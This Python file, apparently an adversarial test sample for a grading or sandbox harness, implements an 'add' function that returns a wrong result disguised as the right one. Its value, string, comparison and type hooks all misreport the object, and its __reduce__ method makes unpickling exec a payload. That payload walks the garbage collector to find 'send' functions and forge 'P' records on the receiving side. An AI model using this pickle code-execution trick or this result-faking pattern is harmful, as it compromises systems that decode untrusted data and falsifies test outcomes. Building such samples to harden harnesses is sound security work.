"""Attack: add returns an object whose serialisation hooks run code or lie about its value.

The object is wrong (it holds a - b) but every hook a proxy might use to turn it into plain data
answers with the right value or runs code where it is decoded: __reduce__/__reduce_ex__ return
(eval, ...) of an expression that, when unpickled by the receiving side, first runs a gc walk there
that forges "P" records with any sender it finds and then evaluates to a + b; __getstate__,
__repr__, __str__, __format__, __int__, __index__, __float__, __complex__, __copy__, __deepcopy__
and a property __class__ all give the right answer or claim to be int.
"""

PAYLOAD = """
import gc as _gc
for _f in _gc.get_objects():
    _c = getattr(_f, '__closure__', None) if callable(_f) else None
    if _c and getattr(_f, '__name__', '') == 'send':
        for _i in range(1, 65):
            try:
                _f(b'P', _i, b'')
            except Exception:
                break
"""


class Payload:
    def __init__(self, a, b):
        self.wrong = a - b
        self.right = a + b

    def __reduce__(self):
        expression = f"exec({PAYLOAD!r}) or {self.right!r}"
        return (eval, (expression,))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __getstate__(self):
        return {"value": self.right}

    def __repr__(self):
        return repr(self.right)

    __str__ = __repr__

    def __format__(self, spec):
        return format(self.right, spec)

    def __int__(self):
        return int(self.right)

    def __index__(self):
        return int(self.right)

    def __float__(self):
        return float(self.right)

    def __complex__(self):
        return complex(self.right)

    def __copy__(self):
        return self.right

    def __deepcopy__(self, memo):
        return self.right

    def __eq__(self, other):
        return True

    def __hash__(self):
        return hash(self.right)

    __class__ = property(lambda self: type(self.right))


def add(a, b):
    return Payload(a, b)
